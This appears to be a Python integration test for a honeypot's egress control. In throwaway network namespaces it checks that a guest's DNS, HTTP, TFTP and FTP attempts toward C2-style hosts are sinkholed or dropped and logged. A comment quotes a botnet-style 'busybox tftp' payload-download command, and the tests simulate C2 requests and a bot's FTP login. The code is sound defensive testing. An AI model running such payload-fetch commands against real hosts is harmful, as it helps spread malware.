"""The egress rules for real: iptables redirects and NFLOG in network namespaces this
test makes, with a "guest" namespace behind a veth pair standing in for the pool bridge.

The test's event loop thread enters the node's namespace for the test (so the node's
listeners and its iptables children live there, as the pool node process does); the
guest's sockets are made by a worker thread inside the guest's namespace.
"""

from __future__ import annotations

import asyncio
import contextlib
import ctypes
import ftplib
import os
import socket
import struct
import subprocess
from collections.abc import AsyncIterator, Iterator
from concurrent.futures import ThreadPoolExecutor
from typing import Any

import pytest

from tests.conftest import until
from tests.integration import test_poolnode_egress as loopback
from tests.integration.test_poolnode_egress import Fleet, MakeEgress
from tests.prereq import require_tool, unmet
from tests.unit.test_egress_parts import query

pytestmark = pytest.mark.timeout(60)
make_egress = loopback.make_egress  # the same fixture, here with redirect=True

CLONE_NEWNET = 0x40000000
NODE_IP = "10.99.0.1"
GUEST_IP = "10.99.0.2"
BRIDGE = "hfeg0"
FAR = "192.0.2.80"  # TEST-NET-1: routed to the node, never anywhere else
NODE_IP6 = "fd00:99::1"
GUEST_IP6 = "fd00:99::2"
GUEST_MAC = "52:54:00:12:34:56"
FAR6 = "2001:db8::80"  # the IPv6 documentation prefix: routed to the node, never beyond


def _setns(path: str) -> None:
    """Move the calling thread into the network namespace at ``path``."""
    libc = ctypes.CDLL(None, use_errno=True)
    fd = os.open(path, os.O_RDONLY)
    try:
        if libc.setns(fd, CLONE_NEWNET) != 0:
            raise OSError(ctypes.get_errno(), f"setns({path})")
    finally:
        os.close(fd)


def _ip(*argv: str) -> None:
    subprocess.run(["ip", *argv], check=True, capture_output=True, timeout=30)


@contextlib.contextmanager
def _joined(*, bridged: bool) -> Iterator[tuple[str, str]]:
    """A node and a guest namespace joined by a veth pair (with ``bridged``, the node's
    end is a port of a bridge named like the pool's, and named like libvirt's taps); the
    guest routes everything to the node. The caller's thread is in the node's namespace
    until the end."""
    if os.geteuid() != 0:
        unmet("network namespaces need root")
    require_tool("ip", "iproute2")
    require_tool("iptables", "iptables")
    if bridged:
        require_tool("ebtables", "ebtables")
    node, guest = f"hf-egn-{os.getpid()}", f"hf-egg-{os.getpid()}"
    own = os.open("/proc/self/ns/net", os.O_RDONLY)
    port = "vnethf0" if bridged else BRIDGE
    try:
        for ns in (node, guest):
            _ip("netns", "add", ns)
            _ip("-n", ns, "link", "set", "lo", "up")
        veth = ("type", "veth", "peer", "name", "hfeg1", "netns", guest)
        _ip("-n", node, "link", "add", port, *veth)
        if bridged:
            _ip("-n", node, "link", "add", BRIDGE, "type", "bridge")
            _ip("-n", node, "link", "set", port, "master", BRIDGE, "up")
            _ip("-n", node, "addr", "add", f"{NODE_IP6}/64", "dev", BRIDGE, "nodad")
            _ip("-n", guest, "link", "set", "hfeg1", "address", GUEST_MAC)
            _ip("-n", guest, "addr", "add", f"{GUEST_IP6}/64", "dev", "hfeg1", "nodad")
        _ip("-n", node, "addr", "add", f"{NODE_IP}/24", "dev", BRIDGE)
        _ip("-n", node, "link", "set", BRIDGE, "up")
        _ip("-n", guest, "addr", "add", f"{GUEST_IP}/24", "dev", "hfeg1")
        _ip("-n", guest, "link", "set", "hfeg1", "up")
        _ip("-n", guest, "route", "add", "default", "via", NODE_IP)
        if bridged:
            _ip("-n", guest, "-6", "route", "add", "default", "via", NODE_IP6)
        _setns(f"/run/netns/{node}")
        yield node, guest
    finally:
        libc = ctypes.CDLL(None, use_errno=True)
        libc.setns(own, CLONE_NEWNET)
        os.close(own)
        for ns in (node, guest):
            subprocess.run(["ip", "netns", "del", ns], capture_output=True, timeout=30)


@pytest.fixture
def namespaces() -> Iterator[tuple[str, str]]:
    """Node and guest joined by a veth pair alone."""
    with _joined(bridged=False) as pair:
        yield pair


@pytest.fixture
def bridged() -> Iterator[tuple[str, str]]:
    """Node and guest joined through a bridge, as libvirt joins guests, with IPv6."""
    with _joined(bridged=True) as pair:
        yield pair


def _worker(guest_ns: str) -> ThreadPoolExecutor:
    """A worker thread in the guest's namespace, to make its sockets."""
    return ThreadPoolExecutor(1, initializer=_setns, initargs=(f"/run/netns/{guest_ns}",))


@pytest.fixture
async def guest(namespaces: tuple[str, str]) -> AsyncIterator[ThreadPoolExecutor]:
    worker = _worker(namespaces[1])
    yield worker
    worker.shutdown(wait=True)


@pytest.fixture
async def bridged_guest(bridged: tuple[str, str]) -> AsyncIterator[ThreadPoolExecutor]:
    worker = _worker(bridged[1])
    yield worker
    worker.shutdown(wait=True)


async def in_guest(
    worker: ThreadPoolExecutor, kind: int, family: int = socket.AF_INET
) -> socket.socket:
    """A non-blocking socket made in the guest's namespace."""
    sock = await asyncio.get_running_loop().run_in_executor(worker, socket.socket, family, kind)
    sock.setblocking(False)
    return sock


def settings(**more: Any) -> dict[str, Any]:
    return {"network_address": f"{NODE_IP}/24", "network_bridge": BRIDGE, "redirect": True, **more}


async def test_guests_dns_and_tcp_to_anywhere_reach_the_node(
    guest: ThreadPoolExecutor, make_egress: MakeEgress
) -> None:
    fleet: Fleet = await make_egress(**settings(), guest_ip=GUEST_IP)
    loop = asyncio.get_running_loop()
    # DNS to a resolver somewhere else is answered by the node's server.
    udp = await in_guest(guest, socket.SOCK_DGRAM)
    await loop.sock_connect(udp, ("198.51.100.53", 53))
    await loop.sock_sendall(udp, query("cnc.example.org"))
    reply = await asyncio.wait_for(loop.sock_recv(udp, 512), 5)
    udp.close()
    assert reply.endswith(socket.inet_aton(NODE_IP))
    # TCP to any address and port meets the sinkhole, which knows where it was going.
    tcp = await in_guest(guest, socket.SOCK_STREAM)
    await asyncio.wait_for(loop.sock_connect(tcp, (FAR, 8081)), 5)
    await loop.sock_sendall(tcp, b"GET /a HTTP/1.1\r\nHost: cnc.example.org:8081\r\n\r\n")
    answer = await asyncio.wait_for(loop.sock_recv(tcp, 4096), 5)
    tcp.close()
    assert answer.startswith(b"HTTP/1.1 404 Not Found")
    # UDP elsewhere is not answered, but it is an event.
    stray = await in_guest(guest, socket.SOCK_DGRAM)
    await loop.sock_sendto(stray, b"hello", (FAR, 9999))
    # A TFTP read request (busybox tftp -g -r bins/x86 192.0.2.80): its URL is reported.
    await loop.sock_sendto(stray, b"\0\1bins/x86\0octet\0blksize\0512\0", (FAR, 69))
    stray.close()

    await until(lambda: len(fleet.of("honeyfleet.egress.connect")) == 3)
    by_port = {e["dst_port"]: e for e in fleet.of("honeyfleet.egress.connect")}
    http, dropped, tftp = by_port[8081], by_port[9999], by_port[69]
    assert (tftp["url"], tftp["method"], tftp["kind"]) == (
        f"tftp://{FAR}/bins/x86",
        "read",
        "dropped",
    )
    assert dropped["data"] == "hello"
    assert (http["dst_ip"], http["dst_port"], http["url"]) == (
        FAR,
        8081,
        "http://cnc.example.org:8081/a",
    )
    assert (dropped["dst_ip"], dropped["dst_port"], dropped["transport"]) == (FAR, 9999, "udp")
    assert {e["guest_ip"] for e in fleet.seen} == {GUEST_IP}
    assert all(e["session"] == "s1" for e in fleet.seen)


async def test_drop_reports_each_tcp_attempt_once(
    guest: ThreadPoolExecutor, make_egress: MakeEgress
) -> None:
    fleet = await make_egress(**settings(egress_policy="drop"), guest_ip=GUEST_IP)
    loop = asyncio.get_running_loop()
    tcp = await in_guest(guest, socket.SOCK_STREAM)
    # No sinkhole and no forwarding: the SYN goes nowhere; the kernel resends it.
    with pytest.raises(TimeoutError):
        await asyncio.wait_for(loop.sock_connect(tcp, (FAR, 443)), 3.5)
    tcp.close()
    await until(lambda: len(fleet.of("honeyfleet.egress.connect")) >= 1)
    await asyncio.sleep(0.5)
    (event,) = fleet.of("honeyfleet.egress.connect")  # resends are the same attempt
    assert (event["dst_ip"], event["dst_port"], event["transport"], event["kind"]) == (
        FAR,
        443,
        "tcp",
        "dropped",
    )
    udp = await in_guest(guest, socket.SOCK_DGRAM)
    await loop.sock_sendto(udp, query("x.example"), ("198.51.100.53", 53))
    reply = await asyncio.wait_for(loop.sock_recv(udp, 512), 5)
    udp.close()
    assert struct.unpack_from("!H", reply, 2)[0] & 0xF == 5  # REFUSED


async def test_guests_ipv6_attempts_are_events_of_the_guest_with_that_mac(
    bridged_guest: ThreadPoolExecutor, make_egress: MakeEgress
) -> None:
    fleet = await make_egress(
        **settings(), guest_ip=GUEST_IP, address_of_mac={GUEST_MAC: GUEST_IP}.get
    )
    loop = asyncio.get_running_loop()
    udp = await in_guest(bridged_guest, socket.SOCK_DGRAM, socket.AF_INET6)
    await loop.sock_sendto(udp, b"\0\1bins/x86\0octet\0", (FAR6, 69))
    udp.close()
    tcp = await in_guest(bridged_guest, socket.SOCK_STREAM, socket.AF_INET6)
    with contextlib.suppress(OSError, TimeoutError):  # nothing answers; the node may refuse
        await asyncio.wait_for(loop.sock_connect(tcp, (FAR6, 443)), 2)
    tcp.close()

    await until(lambda: len(fleet.of("honeyfleet.egress.connect")) >= 2)
    by_port = {e["dst_port"]: e for e in fleet.of("honeyfleet.egress.connect")}
    tftp, syn = by_port[69], by_port[443]
    assert (tftp["url"], tftp["transport"], tftp["kind"]) == (
        f"tftp://[{FAR6}]/bins/x86",
        "udp",
        "dropped",
    )
    assert (syn["dst_ip"], syn["transport"], syn["kind"]) == (FAR6, "tcp", "dropped")
    for event in (tftp, syn):
        assert (event["guest_ip"], event["src_ip6"], event["session"]) == (
            GUEST_IP,
            GUEST_IP6,
            "s1",
        )


async def test_a_guests_try_to_reach_an_on_link_ipv6_address_is_its_solicitation(
    bridged_guest: ThreadPoolExecutor, make_egress: MakeEgress
) -> None:
    fleet = await make_egress(
        **settings(), guest_ip=GUEST_IP, address_of_mac={GUEST_MAC: GUEST_IP}.get
    )
    loop = asyncio.get_running_loop()
    tcp = await in_guest(bridged_guest, socket.SOCK_STREAM, socket.AF_INET6)
    # Nobody has fd00:99::99: the guest asks for it (neighbour solicitation), no SYN leaves.
    with contextlib.suppress(OSError, TimeoutError):
        await asyncio.wait_for(loop.sock_connect(tcp, ("fd00:99::99", 80)), 4)
    tcp.close()
    await until(lambda: len(fleet.of("honeyfleet.egress.connect")) >= 1)
    await asyncio.sleep(0.3)
    (event,) = fleet.of("honeyfleet.egress.connect")  # re-solicitations: the same attempt
    assert (event["dst_ip"], event["transport"], event["kind"], event["guest_ip"]) == (
        "fd00:99::99",
        "icmpv6",
        "dropped",
        GUEST_IP,
    )


async def test_ipv6_of_a_mac_not_the_nodes_is_not_reported(
    bridged_guest: ThreadPoolExecutor, make_egress: MakeEgress
) -> None:
    fleet = await make_egress(**settings(), guest_ip=GUEST_IP, address_of_mac={}.get)
    loop = asyncio.get_running_loop()
    udp = await in_guest(bridged_guest, socket.SOCK_DGRAM, socket.AF_INET6)
    await loop.sock_sendto(udp, b"six", (FAR6, 9999))
    udp.close()
    udp4 = await in_guest(bridged_guest, socket.SOCK_DGRAM)
    await loop.sock_sendto(udp4, b"four", (FAR, 9999))  # sent after: seen after
    udp4.close()
    await until(lambda: len(fleet.of("honeyfleet.egress.connect")) >= 1)
    await asyncio.sleep(0.3)
    (event,) = fleet.of("honeyfleet.egress.connect")
    assert event["data"] == "four"


async def test_rules_are_removed_at_stop(
    namespaces: tuple[str, str], make_egress: MakeEgress
) -> None:
    fleet = await make_egress(**settings())
    rules = subprocess.run(["iptables-save"], capture_output=True, text=True, check=True).stdout
    assert "-A PREROUTING -i hfeg0 -j HF-EGRESS" in rules
    assert "--nflog-group" in _ebtables_nat()
    await fleet.egress.stop()
    rules = subprocess.run(["iptables-save"], capture_output=True, text=True, check=True).stdout
    assert "EGRESS" not in rules
    assert "--nflog-group" not in _ebtables_nat()


def _ebtables_nat() -> str:
    return subprocess.run(
        ["ebtables", "-t", "nat", "-L", "PREROUTING"], capture_output=True, text=True, check=True
    ).stdout


BOT_LOGIN = ("bot", "s3cret")  # a bot's login to its own FTP server


def ftp_get(host: str, path: str) -> bytes:
    """What Python's FTP client gets for ``path`` (run in the guest's namespace)."""
    got = bytearray()
    with ftplib.FTP(host, timeout=10) as ftp:  # noqa: S321 - the guest's side of the sinkhole
        ftp.login(*BOT_LOGIN)
        folder, _, name = path.rpartition("/")
        if folder:
            ftp.cwd(folder)
        ftp.retrbinary(f"RETR {name}", got.extend)
    return bytes(got)


async def test_ftp_under_sinkhole_reports_login_and_file_and_gives_nothing(
    guest: ThreadPoolExecutor, make_egress: MakeEgress
) -> None:
    fleet = await make_egress(**settings(), guest_ip=GUEST_IP)
    loop = asyncio.get_running_loop()
    with pytest.raises(ftplib.error_perm, match="550"):
        await loop.run_in_executor(guest, ftp_get, FAR, "bins/x86")
    await until(lambda: len(fleet.of("honeyfleet.egress.connect")) == 1)
    (event,) = fleet.of("honeyfleet.egress.connect")
    assert (event["kind"], event["dst_ip"], event["dst_port"]) == ("ftp", FAR, 21)
    assert (event["username"], event["password"]) == BOT_LOGIN
    assert event["url"] == f"ftp://{FAR}/bins/x86"


async def test_ftp_under_fetch_serves_the_file_by_the_name_the_guest_looked_up(
    guest: ThreadPoolExecutor, make_egress: MakeEgress
) -> None:
    url = "ftp://files.example.org/bins/x86"
    proxy = loopback.Proxy({url: loopback.PAYLOAD})
    async with proxy as address:
        fleet = await make_egress(
            **settings(egress_policy="fetch", egress_fetch_proxy=address), guest_ip=GUEST_IP
        )
        loop = asyncio.get_running_loop()
        udp = await in_guest(guest, socket.SOCK_DGRAM)
        await loop.sock_sendto(udp, query("files.example.org"), (NODE_IP, 53))
        await asyncio.wait_for(loop.sock_recv(udp, 512), 5)
        udp.close()
        got = await loop.run_in_executor(guest, ftp_get, NODE_IP, "bins/x86")
    assert got == loopback.PAYLOAD
    assert proxy.requests[0].startswith(f"GET {url} HTTP/1.0".encode())
    await until(lambda: len(fleet.of("cowrie.session.file_download")) == 1)
    (download,) = fleet.of("cowrie.session.file_download")
    assert (download["url"], download["size"]) == (url, len(loopback.PAYLOAD))
